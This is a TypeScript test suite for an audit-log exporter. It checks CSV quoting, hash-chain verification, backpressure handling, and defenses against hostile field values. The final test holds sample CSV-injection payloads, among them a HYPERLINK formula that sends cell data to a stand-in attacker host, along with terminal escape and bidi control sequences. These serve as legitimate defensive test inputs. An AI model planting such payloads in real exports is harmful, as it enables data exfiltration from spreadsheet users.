import { PassThrough, Writable } from 'node:stream';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import {
  type AuditEvent,
  auditEvent,
  CSV_COLUMNS,
  type ExportOptions,
  exportEvents,
  parseJsonlLine,
  verifyRows,
} from '../../src/audit/index.js';
import type { Store } from '../../src/store/index.js';
import {
  configLoaded,
  HOUR,
  newSession,
  opened,
  principal,
  record,
  T0,
  testClock,
} from '../store/fixtures.js';
import { engines, type TestDb } from '../store/harness.js';

/** A strict RFC 4180 parser, written independently of the exporter. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let field = '';
  let fields: string[] = [];
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
      } else if (c === '"') {
        quoted = false;
        i++;
      } else {
        field += c;
        i++;
      }
    } else if (c === '"' && field === '') {
      quoted = true;
      i++;
    } else if (c === ',') {
      fields.push(field);
      field = '';
      i++;
    } else if (c === '\r' && text[i + 1] === '\n') {
      fields.push(field);
      records.push(fields);
      fields = [];
      field = '';
      i += 2;
    } else if (c === '"' || c === '\n' || c === '\r') {
      throw new Error(`bare ${JSON.stringify(c)} at ${i}`);
    } else {
      field += c;
      i++;
    }
  }
  if (quoted) throw new Error('unterminated quote');
  if (field !== '' || fields.length > 0) throw new Error('last record not terminated by CRLF');
  return records;
}

async function exportToString(
  store: Store,
  options: ExportOptions,
): Promise<{ text: string; count: number }> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  const count = await exportEvents(store, options, out);
  out.end();
  return { text: Buffer.concat(chunks).toString('utf8'), count };
}

const awkward = 'say "hi", then\nleave, \r\nplease; naïve ✓';

for (const h of engines()) {
  describe(`audit export [${h.engine}]`, () => {
    let t: TestDb;
    let store: Store;
    let events: AuditEvent[];
    beforeAll(() => h.setup());
    afterAll(() => h.teardown());
    beforeEach(async () => {
      t = await h.fresh();
      const clock = testClock();
      store = await t.open({ clock: clock.now });
      events = [];
      const s = newSession({ targets: ['staging-db', 'cache'] });
      events.push((await store.createSession(record(s), opened)).event);
      clock.advance(HOUR);
      events.push(
        await store.appendAudit(
          auditEvent('query', {
            session: s.id,
            connection: 'c1',
            principal: { ...principal, ref: 'feature/a,b', job_url: 'https://ci.example/jobs/1?a=1,2' },
            target: 'staging-db',
            rule: 'ledger-main-to-staging',
            exit: 'gateway',
            statements: [{ at: new Date(T0 + HOUR).toISOString(), statement: `select '${awkward}'` }],
          }),
        ),
      );
      for (let i = 1; i <= 5; i++) {
        clock.advance(HOUR);
        events.push(await store.appendAudit(configLoaded(i)));
      }
    });
    afterEach(() => t.dispose());

    it('JSON lines: one event a line, ISO time, data inline, and it verifies', async () => {
      const { text, count } = await exportToString(store, { format: 'jsonl', pageSize: 3 });
      expect(count).toBe(7);
      const lines = text.split('\n');
      expect(lines.pop()).toBe('');
      expect(lines).toHaveLength(7);
      const objects = lines.map((l) => JSON.parse(l) as Record<string, unknown>);
      expect(objects[0]).toMatchObject({
        seq: 1,
        time: new Date(T0).toISOString(),
        type: 'session.opened',
        hash: events[0]!.hash,
        prev_hash: '0'.repeat(64),
        rule: 'ledger-main-to-staging',
        targets: ['staging-db', 'cache'],
        principal,
      });
      expect(objects[1]).toMatchObject({
        statements: [{ statement: `select '${awkward}'` }],
        time: new Date(T0 + HOUR).toISOString(),
      });
      // Round trip: the export alone is enough to verify the chain.
      expect(await verifyRows(lines.map(parseJsonlLine))).toMatchObject({ ok: true, count: 7 });
      const tampered = lines.map((l, i) => (i === 1 ? l.replace('select', 'delete') : l));
      expect(await verifyRows(tampered.map(parseJsonlLine))).toMatchObject({ ok: false, seq: 2 });
    });

    it('JSON lines for a period: [since, until), verifiable as an excerpt', async () => {
      const { text, count } = await exportToString(store, {
        format: 'jsonl',
        since: T0 + 2 * HOUR,
        until: T0 + 5 * HOUR,
      });
      expect(count).toBe(3);
      const rows = text.trim().split('\n').map(parseJsonlLine);
      expect(rows.map((r) => r.seq)).toEqual([3, 4, 5]);
      expect(await verifyRows(rows, { from: 'first' })).toMatchObject({ ok: true, count: 3 });
    });

    it('CSV: fixed header, RFC 4180 quoting, and the data column verifies', async () => {
      const { text, count } = await exportToString(store, { format: 'csv' });
      expect(count).toBe(7);
      expect(
        text.startsWith(
          'seq,time,type,session,target,rule,project,ref,pipeline,job,job_url,hash,prev_hash,data\r\n',
        ),
      ).toBe(true);
      const [header, ...records] = parseCsv(text);
      expect(header).toEqual([...CSV_COLUMNS]);
      expect(records).toHaveLength(7);
      for (const r of records) expect(r).toHaveLength(CSV_COLUMNS.length);
      const col = (r: string[], name: (typeof CSV_COLUMNS)[number]) => r[CSV_COLUMNS.indexOf(name)];

      const [openedRow, queryRow, configRow] = records as [string[], string[], string[]];
      expect(col(openedRow, 'target')).toBe('staging-db cache');
      expect(col(openedRow, 'project')).toBe('ledger/api');
      expect(col(openedRow, 'job_url')).toBe(principal.job_url);
      expect(col(queryRow, 'ref')).toBe('feature/a,b');
      expect(col(queryRow, 'job_url')).toBe('https://ci.example/jobs/1?a=1,2');
      expect(JSON.parse(col(queryRow, 'data')!).statements[0].statement).toBe(`select '${awkward}'`);
      expect(col(configRow, 'session')).toBe('');
      expect(col(configRow, 'time')).toBe(new Date(T0 + 2 * HOUR).toISOString());

      const rows = records.map((r) => ({
        seq: Number(col(r, 'seq')),
        time: Date.parse(col(r, 'time')!),
        type: col(r, 'type')!,
        data: col(r, 'data')!,
        hash: col(r, 'hash')!,
        prevHash: col(r, 'prev_hash')!,
      }));
      expect(await verifyRows(rows)).toMatchObject({ ok: true, count: 7 });
    });

    it('respects backpressure of a slow writer', async () => {
      for (let i = 0; i < 40; i++) await store.appendAudit(configLoaded(100 + i));
      const received: string[] = [];
      let maxBuffered = 0;
      const slow = new Writable({
        highWaterMark: 256,
        write(chunk: Buffer, _enc, done) {
          received.push(chunk.toString());
          maxBuffered = Math.max(maxBuffered, slow.writableLength);
          setTimeout(done, 1);
        },
      });
      const count = await exportEvents(store, { format: 'jsonl', pageSize: 10 }, slow);
      await new Promise<void>((resolve) => slow.end(resolve));
      expect(count).toBe(47);
      expect(received.join('').trim().split('\n')).toHaveLength(47);
      expect(maxBuffered).toBeLessThan(2048);
    });
  });
}

describe('audit export of hostile values (CSV injection, control characters)', () => {
  const formula = '=HYPERLINK("http://evil.example/?x="&A1,"ok")';
  const escPath = 'acme/\u001b]0;pwned\u0007ledger\u202e';
  const h = engines()[0]!;
  let t: TestDb;
  let store: Store;
  beforeAll(() => h.setup());
  afterAll(() => h.teardown());
  beforeEach(async () => {
    t = await h.fresh();
    store = await t.open({ clock: testClock().now });
  });
  afterEach(() => t.dispose());

  it("defuses formula leaders with ' in a quoted cell, escapes controls, and the data column still verifies", async () => {
    const hostile = {
      ...principal,
      project: escPath,
      ref: formula,
      pipeline: '+1',
      job: '@SUM(A1)',
      job_url: '-2',
    };
    const s = newSession({ targets: ['staging-db'] });
    await store.createSession(record(s), opened);
    await store.appendAudit(
      auditEvent('connection.opened', {
        session: s.id,
        connection: 'c1',
        principal: hostile,
        target: 'staging-db',
        rule: 'ledger-main-to-staging',
        exit: 'gateway',
      }),
    );
    const { text } = await exportToString(store, { format: 'csv' });
    // biome-ignore lint/suspicious/noControlCharactersInRegex: no raw control character in the file
    expect(text.replace(/\r\n/g, '')).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e]/);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""ok"")"`);
    const [, , row] = parseCsv(text) as [string[], string[], string[]];
    const col = (name: (typeof CSV_COLUMNS)[number]) => row[CSV_COLUMNS.indexOf(name)];
    expect(col('ref')).toBe(`'${formula}`);
    expect(col('project')).toBe('acme/\\x1b]0;pwned\\x07ledger\\u202e');
    expect([col('pipeline'), col('job'), col('job_url')]).toEqual(["'+1", "'@SUM(A1)", "'-2"]);
    // The data column keeps the exact values (as JSON escapes), so the export still verifies.
    expect(JSON.parse(col('data')!).principal).toMatchObject({ project: escPath, ref: formula });
    const rows = parseCsv(text)
      .slice(1)
      .map((r) => ({
        seq: Number(r[0]),
        time: Date.parse(r[1]!),
        type: r[2]!,
        data: r[CSV_COLUMNS.indexOf('data')]!,
        hash: r[CSV_COLUMNS.indexOf('hash')]!,
        prevHash: r[CSV_COLUMNS.indexOf('prev_hash')]!,
      }));
    expect(await verifyRows(rows)).toMatchObject({ ok: true, count: 2 });
  });
});
